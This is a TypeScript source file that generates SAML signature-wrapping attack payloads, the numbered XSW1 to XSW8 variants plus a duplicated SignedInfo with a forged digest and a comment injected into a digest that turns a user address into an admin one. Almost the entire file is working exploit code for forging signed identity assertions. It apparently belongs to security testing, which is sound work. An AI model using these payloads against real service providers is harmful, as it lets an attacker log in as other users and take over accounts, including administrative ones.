/**
 * Signature wrapping in SAML answers, as "On Breaking SAML" (USENIX Security 2012) lists it and common attack tools number it: the
 * signed part stays whole somewhere, and what is read stands elsewhere.
 */
interface Wrapping {
  /** A response, signed as a whole, about the person the provider knows. */
  readonly signedResponse: string;
  /** An assertion the provider signed. */
  readonly signedAssertion: string;
  /** The assertion of the attacker, which nobody signed; it bears the name of the signed one. */
  readonly evilAssertion: string;
  /** A response around whatever stands inside. */
  readonly around: (inner: string) => string;
}

const SIGNATURE = /<(?:ds:)?Signature[\s>][\s\S]*?<\/(?:ds:)?Signature>/;
const signatureOf = (xml: string) => SIGNATURE.exec(xml)?.[0] ?? '';
const unsigned = (xml: string) => xml.replace(SIGNATURE, '');
const afterIssuer = (xml: string, more: string) => xml.replace('</saml:Issuer>', `</saml:Issuer>${more}`);
/** Puts something into a signature, at its end. */
const intoSignature = (signature: string, more: string) =>
  signature.replace(/<\/(ds:)?Signature>$/, (end) => `${more}${end}`);
const object = (inner: string) =>
  `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${inner}</ds:Object>`;
const ASSERTION = /<saml:Assertion[\s\S]*<\/saml:Assertion>/;

/** The signed response with another assertion in it and another name of its own. */
function evilResponse({ signedResponse, evilAssertion }: Wrapping): string {
  return unsigned(signedResponse)
    .replace(ASSERTION, evilAssertion)
    .replace(/ ID="[^"]+"/, ' ID="_evil-response"');
}

/** The answers by their customary numbers; texts of XML. */
export const WRAPPINGS: Readonly<Record<string, (parts: Wrapping) => string>> = {
  'XSW1: the signed response inside the signature of a forged one': (parts) =>
    afterIssuer(
      evilResponse(parts),
      intoSignature(signatureOf(parts.signedResponse), object(unsigned(parts.signedResponse))),
    ),
  'XSW2: the signed response beside its signature in a forged one': (parts) =>
    afterIssuer(
      evilResponse(parts),
      `${object(unsigned(parts.signedResponse))}${signatureOf(parts.signedResponse)}`,
    ),
  'XSW3: a forged assertion before the signed one': ({ around, evilAssertion, signedAssertion }) =>
    around(evilAssertion + signedAssertion),
  'XSW4: the signed assertion inside a forged one': ({ around, evilAssertion, signedAssertion }) =>
    around(evilAssertion.replace('</saml:Assertion>', `${signedAssertion}</saml:Assertion>`)),
  'XSW5: a forged assertion with the signature, the signed one bare behind it': (parts) =>
    parts.around(
      afterIssuer(parts.evilAssertion, signatureOf(parts.signedAssertion)) + unsigned(parts.signedAssertion),
    ),
  'XSW6: a forged assertion with the signature, the signed one bare inside it': (parts) =>
    parts.around(
      afterIssuer(
        parts.evilAssertion,
        intoSignature(signatureOf(parts.signedAssertion), unsigned(parts.signedAssertion)),
      ),
    ),
  'XSW7: a forged assertion in an extension before the signed one': (parts) =>
    parts.around(`<samlp:Extensions>${parts.evilAssertion}</samlp:Extensions>${parts.signedAssertion}`),
  'XSW8: a forged assertion whose signature holds the signed one as an object': (parts) =>
    parts.around(
      afterIssuer(
        parts.evilAssertion,
        intoSignature(signatureOf(parts.signedAssertion), object(unsigned(parts.signedAssertion))),
      ),
    ),
  'a second SignedInfo before the true one': ({ around, signedAssertion, evilAssertion }) => {
    const info = /<(?:ds:)?SignedInfo[\s\S]*?<\/(?:ds:)?SignedInfo>/.exec(signedAssertion)?.[0] ?? '';
    const forged = info.replace(/(DigestValue>)[^<]+/, '$1AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=');
    return around(afterIssuer(evilAssertion, signatureOf(signedAssertion).replace(info, `${forged}${info}`)));
  },
  'a comment inside the digest': ({ around, signedAssertion }) =>
    around(
      signedAssertion
        .replace(/(DigestValue>)/, '$1<!--AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=-->')
        .replace('>sofia@', '>admin@'),
    ),
};
